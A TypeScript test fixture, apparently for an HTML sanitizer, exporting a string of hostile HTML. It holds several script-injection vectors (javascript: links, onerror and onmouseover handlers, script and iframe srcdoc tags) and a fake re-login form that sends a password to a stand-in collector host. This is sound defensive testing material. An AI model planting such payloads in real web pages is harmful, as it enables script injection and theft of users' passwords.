/**
 * HTML that a careless or hostile editor may leave in a document. It looks harmless when rendered; a site that shows
 * documents has to sanitize everything that executes or submits.
 */
export const hostileHtml = `<p>Read our <a href="javascript:document.documentElement.dataset.hacked='link'">latest news</a>.</p>
<img src="x" alt="" onerror="document.documentElement.dataset.hacked='image'">
<script>document.documentElement.dataset.hacked='script'</script>
<svg><a xlink:href="javascript:alert(1)"><text>more</text></a></svg>
<iframe srcdoc="<script>parent.document.documentElement.dataset.hacked='frame'</script>"></iframe>
<p style="position:fixed;inset:0" onmouseover="document.documentElement.dataset.hacked='hover'">Thank you for reading.</p>
<form action="https://collector.example/steal"><input name="password" type="password"><button>Log in again</button></form>`
